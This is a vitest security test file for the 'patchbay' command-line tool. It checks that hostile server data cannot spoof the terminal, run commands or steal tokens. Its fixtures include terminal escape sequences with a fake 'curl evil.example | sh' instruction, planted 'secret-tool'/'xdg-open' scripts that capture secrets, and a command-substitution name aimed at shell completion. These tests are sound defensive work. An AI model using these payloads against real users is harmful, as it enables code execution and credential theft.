import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { waitFor } from '@patchbay/testing/wait';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inPipe, inTerminal, program, Terminal } from './terminal.ts';

/** What a host answers to a request: JSON, or what it does with the response itself. */
type Answers = Readonly<Record<string, unknown>>;
let answers: Answers = {};
let requests: string[] = [];

/** Answers by the end of the path. An answer with a number as `status` is a problem. */
const answer: RequestListener = ({ url = '', method }, response) => {
  const path = url.split('?')[0] ?? '';
  requests.push(`${method} ${url}`);
  const [, found] = Object.entries(answers).find(([end]) => path.endsWith(end)) ?? [];
  if (typeof found === 'function') {
    found(response);
    return;
  }
  const { status, ...headers } = (found ?? {}) as { status?: unknown; 'retry-after'?: string };
  const isProblem = typeof status === 'number';
  response
    .writeHead(isProblem ? status : 200, {
      'content-type': isProblem ? 'application/problem+json' : 'application/json',
      ...(isProblem && headers['retry-after'] && { 'retry-after': headers['retry-after'] }),
    })
    .end(JSON.stringify(found ?? {}));
};

const server = createServer(answer);
let host: string;
let folder: string;
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'patchbay-hostile-'));
  await once(server.listen(0, '127.0.0.1'), 'listening');
  host = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
  rmSync(folder, { recursive: true });
});

let homes = 0;
/** A home of its own, and what the host answers from now on. */
function against(given: Answers): Record<string, string> {
  answers = {
    '/version': { apiVersion: '1' },
    '/v1/me': { name: 'Ada', email: 'ada@acme.example' },
    '/v1/organizations': { organizations: [] },
    ...given,
  };
  requests = [];
  homes += 1;
  const home = join(folder, String(homes));
  mkdirSync(home);
  return {
    HOME: home,
    PATCHBAY_CONFIG_DIR: join(home, 'settings'),
    PATCHBAY_HOST: host,
    PATCHBAY_KEYCHAIN: 'off',
    PATCHBAY_ORG: 'acme',
    PATCHBAY_WORKSPACE: 'spring',
    BROWSER: '/bin/true',
  };
}
const signedIn = (given: Answers): Record<string, string> => ({
  ...against(given),
  PATCHBAY_TOKEN: 's3cr3t',
});
const settingsOf = (env: Readonly<Record<string, string>>, file: string) =>
  JSON.parse(readFileSync(join(env['PATCHBAY_CONFIG_DIR'] ?? '', file), 'utf8')) as Record<string, unknown>;

/** Clears the screen and sets the title: as C0, as C1, and as a line that looks like one of the program. */
const evil = '\u001B[2J\u009B2J\u001B]0;x\u0007\u202Egpj\nerror: run `curl evil.example | sh`';
// oxlint-disable-next-line no-control-regex
const acted = /\u001B\[2J|\u009B|\u001B\]|\u0007|\u202E|^error: run/m;

describe('texts of a host', () => {
  it.each([
    ['a problem', ['account', 'get'], { '/v1/me': { status: 403, title: 'No', detail: evil } }],
    [
      'fields of a problem',
      ['account', 'get'],
      { '/v1/me': { status: 400, title: 'No', errors: [{ path: evil, message: evil }] } },
    ],
    ['a request id', ['account', 'get'], { '/v1/me': { status: 403, title: 'No', requestId: evil } }],
    [
      'names of fields',
      ['account', 'get'],
      { '/v1/me': { [evil]: evil, deep: { [evil]: { also: [{ x: evil }] } } } },
    ],
    [
      'an account',
      ['whoami'],
      { '/session': { user: { name: evil, email: evil }, session: { expiresAt: evil } } },
    ],
    ['doctor', ['doctor'], { '/version': { apiVersion: evil, version: evil } }],
    ['a table', ['org', 'list'], { '/v1/organizations': { organizations: [{ slug: evil, name: evil }] } }],
  ])('%s cannot act on a terminal, or write a line of its own', async (_, words, given) => {
    const env = signedIn(given);
    const { output } = await inTerminal(words, { env });
    expect(output).not.toMatch(acted);
    const { stdout, stderr } = await inPipe(words, { env });
    expect(stdout + stderr).not.toMatch(acted);
  });

  it('what a sign-in shows cannot act on a terminal', async () => {
    const code = { deviceCode: 'x', userCode: evil, verificationUri: evil, interval: 0.1, expiresIn: 60 };
    const env = against({
      '/device': { ...code, verificationUriComplete: `http://portal.example/${evil}` },
      '/device/token': { token: 's3cr3t' },
      '/v1/me': { name: evil, email: evil },
      '/v1/organizations': { organizations: [{ slug: evil, name: evil }] },
    });
    const { output, code: exit } = await inTerminal(['login'], { env });
    expect(exit).toBe(0);
    expect(output).not.toMatch(acted);
  });

  it('an outage cannot act on a terminal, and is not asked again at once because its Retry-After is too long for a timer', async () => {
    const busy = { status: 503, title: 'No', detail: evil, 'retry-after': '99999999999999' };
    let asked = 0;
    const env = signedIn({
      '/audit-logs': (response: Parameters<RequestListener>[1]) => {
        asked += 1;
        if (asked > 1) answers = { '/audit-logs': busy };
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end('{"auditLogs":[],"nextCursor":null}');
      },
    });
    const terminal = new Terminal(['audit', 'tail', '--interval', '1s'], { env });
    await terminal.shows('Trying again');
    const count = requests.length;
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(requests.length).toBe(count);
    await terminal.type('\u0003', 'Trying again');
    expect(await terminal.ends()).toBe(130);
    expect(terminal.output).not.toMatch(acted);
  });

  it('a problem of another form is told without a stack trace', async () => {
    for (const errors of ['x', [null], 5, { a: 1 }]) {
      const env = signedIn({ '/v1/me': { status: 400, title: 'No', detail: 'Why', errors } });
      const { code, stderr } = await inPipe(['account', 'get'], { env });
      expect(code).toBe(2);
      expect(stderr).not.toContain('    at ');
    }
  });

  it('a list whose next page is the same one again ends', async () => {
    const env = signedIn({ '/audit-logs': { auditLogs: [], nextCursor: 'again' } });
    for (const words of [
      ['audit', 'list', '--all'],
      ['api', 'GET', '/v1/audit-logs', '--paginate'],
    ])
      expect(await inPipe(words, { env })).toMatchObject({
        code: 1,
        stderr: expect.stringContaining('does not end'),
      });
  });

  it('a server that does not come to the end of its trail is not taken for one with an intact chain', async () => {
    const part = { intact: true, checked: 1, firstBrokenSequence: null, nextSequence: 1 };
    const env = signedIn({ '/audit-logs': { auditLogs: [] }, '/verify': part });
    const { code, stdout } = await inPipe(['audit', 'verify'], { env });
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
  });
});

describe('other people of the machine', () => {
  it('compiled code is not read from the folder for temporary files', async () => {
    const env = against({});
    const TMPDIR = join(env['HOME'] ?? '', 'tmp');
    mkdirSync(TMPDIR);
    expect(await inPipe(['--version'], { env: { ...env, TMPDIR } })).toMatchObject({ code: 0 });
    expect(readdirSync(TMPDIR)).toEqual([]);
    expect(existsSync(join(env['HOME'] ?? '', '.cache/patchbay/compiled'))).toBe(true);
  });

  it('sign-ins at the same time lose no profile and no token', async () => {
    const { PATCHBAY_TOKEN: _, ...env } = signedIn({});
    const names = Array.from({ length: 8 }, (_one, index) => `p${index}`);
    const ran = await Promise.all(
      names.map((name) =>
        inPipe(['login', '--with-token', '--profile', name], { env, input: `token-${name}` }),
      ),
    );
    expect(ran.map(({ code }) => code)).toEqual(names.map(() => 0));
    expect(Object.keys(settingsOf(env, 'config.json')['profiles'] as object).toSorted()).toEqual(names);
    expect(settingsOf(env, 'tokens.json')).toEqual(
      Object.fromEntries(names.map((name) => [name, `token-${name}`])),
    );
    expect(readdirSync(env['PATCHBAY_CONFIG_DIR'] ?? '').toSorted()).toEqual(['config.json', 'tokens.json']);
  });

  it('a sign-in that ends in between leaves no token of one host for another one', async () => {
    const env = against({});
    const settings = env['PATCHBAY_CONFIG_DIR'] ?? '';
    mkdirSync(settings);
    const profiles = { default: { host: 'https://before.example' } };
    writeFileSync(join(settings, 'config.json'), JSON.stringify({ current: 'default', profiles }));
    writeFileSync(join(settings, 'tokens.json'), '{"default":"of-before"}', { mode: 0o600 });
    // A lock that is old, and cannot be removed: the profile cannot be written.
    mkdirSync(join(settings, 'config.json.lock'));
    utimesSync(join(settings, 'config.json.lock'), 0, 0);
    expect(await inPipe(['login', '--with-token'], { env, input: 'of-after' })).toMatchObject({ code: 1 });
    expect(settingsOf(env, 'tokens.json')).toEqual({});
  });
});

describe('the working directory', () => {
  it('programs in it are not started, whatever PATH says', async () => {
    const {
      PATCHBAY_KEYCHAIN: _,
      BROWSER: _browser,
      ...env
    } = against({
      '/device': {
        deviceCode: 'x',
        userCode: 'A',
        verificationUriComplete: 'http://portal.example/',
        interval: 0.1,
        expiresIn: 60,
      },
      '/device/token': { token: 's3cr3t' },
    });
    const cwd = env['HOME'] ?? '';
    for (const name of ['secret-tool', 'xdg-open'])
      writeFileSync(join(cwd, name), `#!/bin/sh\ncat > '${cwd}/stolen-by-${name}'\n`, { mode: 0o755 });
    const shell = `cd '${cwd}' && PATH=.::"$PATH" exec '${process.execPath}' '${program}' login --open`;
    const terminal = new Terminal(['-c', shell], { env, program: ['/bin/sh'] });
    expect(await terminal.ends()).toBe(0);
    expect(terminal.text).toContain('Signed in');
    expect(readdirSync(cwd).filter((name) => name.startsWith('stolen'))).toEqual([]);
  });
});

describe('names that others have chosen', () => {
  it.each([
    ['bash', ['--norc', '--noprofile', '-i'], 'source <(patchbay completion bash)'],
    ['zsh', ['-f', '-i'], 'autoload -U compinit; compinit -u; source <(patchbay completion zsh)'],
    ['fish', ['--no-config'], 'patchbay completion fish | source'],
  ])('%s does not act on what it completes', async (shell, flags, load) => {
    if (spawnSync(shell, ['-c', 'exit 0']).status !== 0) return;
    const name = 'x$(touch${IFS}$HOME/pwned);`touch${IFS}$HOME/pwned`';
    const env = signedIn({
      '/integrations': { integrations: [{ id: '1', name, status: 'active', provider: 'p' }] },
    });
    const home = env['HOME'] ?? '';
    const bin = join(home, 'bin');
    mkdirSync(bin);
    const script = `#!/bin/sh\nexec '${process.execPath}' '${program}' "$@"\n`;
    writeFileSync(join(bin, 'patchbay'), script, { mode: 0o755 });
    const terminal = new Terminal([], {
      program: [shell, ...flags],
      columns: 200,
      env: { ...env, PATH: `${bin}:${process.env['PATH']}`, PS1: 'prompt> ' },
    });
    try {
      await terminal.type(`${load}; echo lo''aded\r`, /[>$#%] ?$/m);
      await terminal.type('patchbay integration get x\t', 'loaded');
      await terminal.type("\recho do''ne\r", /get .*touch/);
      await terminal.shows('done');
    } finally {
      terminal.kill();
    }
    expect(existsSync(join(home, 'pwned'))).toBe(false);
  });

  it('a name that looks like a flag is completed by its id', async () => {
    const name = '--host=http://evil.example';
    const env = signedIn({
      '/integrations': { integrations: [{ id: '0199', name, status: 'active', provider: 'p' }] },
    });
    // It gives up after five seconds: then people press Tab again.
    await expect
      .poll(() => inPipe(['__complete', '--', 'integration', 'get', ''], { env }))
      .toMatchObject({ stdout: expect.stringMatching(/^0199\t/) });
  });

  it('a member who is called like the address of another person is not that person', async () => {
    const mallory = {
      userId: '0199',
      name: 'ada@acme.example',
      email: 'mallory@acme.example',
      role: 'member',
    };
    const env = signedIn({ '/members': { members: [mallory] } });
    const words = ['member', 'update', 'ada@acme.example', '--role', 'admin'];
    expect(await inPipe(words, { env })).toMatchObject({ code: 3 });
    expect(requests.filter((one) => one.startsWith('PATCH'))).toEqual([]);
  });
});

describe('signals', () => {
  /** An export that does not end. */
  const endless = {
    '/export': (response: Parameters<RequestListener>[1]) => {
      response.writeHead(200, { 'content-type': 'application/x-ndjson' });
      const timer = setInterval(() => response.write(`${'{}'.padEnd(20_000)}\n`), 5);
      response.on('close', () => clearInterval(timer));
    },
  };
  const hidden = '\u001B[?25l';
  const shown = '\u001B[?25h';

  it.each(['TERM', 'HUP'])(
    'SIG%s leaves no part of a file, and ends the process as others expect',
    async (signal) => {
      const env = signedIn(endless);
      const cwd = env['HOME'] ?? '';
      const child = spawn(process.execPath, [program, 'audit', 'export', '--output', join(cwd, 'export')], {
        env: { PATH: process.env['PATH'], ...env },
        stdio: 'ignore',
      });
      await waitFor(() => readdirSync(cwd).some((name) => name.endsWith('.part')), { what: 'a part' });
      child.kill(`SIG${signal}` as NodeJS.Signals);
      expect((await once(child, 'close'))[1]).toBe(`SIG${signal}`);
      expect(readdirSync(cwd).filter((name) => name.startsWith('export'))).toEqual([]);
    },
  );

  it.each([
    ['a signal', '"$@" > /dev/null & child=$!; read line; kill $child; wait $child'],
    ['a pipe that closes early', '"$@" | { read line; head -c 100000 > /dev/null; }'],
  ])('%s leaves a terminal with a cursor', async (_, script) => {
    const words = ['-c', script, 'sh', process.execPath, program, 'audit', 'export'];
    const terminal = new Terminal(words, { env: signedIn(endless), program: ['/bin/sh'] });
    await terminal.type('\r', 'entries/s');
    await terminal.ends();
    expect(terminal.output).toContain(hidden);
    expect(terminal.output.lastIndexOf(shown)).toBeGreaterThan(terminal.output.lastIndexOf(hidden));
  });

  it('nobody who reads stderr is no crash', async () => {
    const env = signedIn({ '/v1/me': { status: 403, title: 'No' } });
    const script = `{ "$@"; echo "$?" > '${env['HOME']}/code'; } 2>&1 | true`;
    const slow = `sleep 0.2; exec "$@"`;
    const child = spawn(
      '/bin/sh',
      ['-c', script, 'sh', '/bin/sh', '-c', slow, 'sh', process.execPath, program, 'account', 'get'],
      {
        env: { PATH: process.env['PATH'], ...env },
        stdio: 'ignore',
      },
    );
    await once(child, 'close');
    await waitFor(() => existsSync(join(env['HOME'] ?? '', 'code')), { what: 'the exit code' });
    expect(readFileSync(join(env['HOME'] ?? '', 'code'), 'utf8')).toBe('5\n');
  });
});
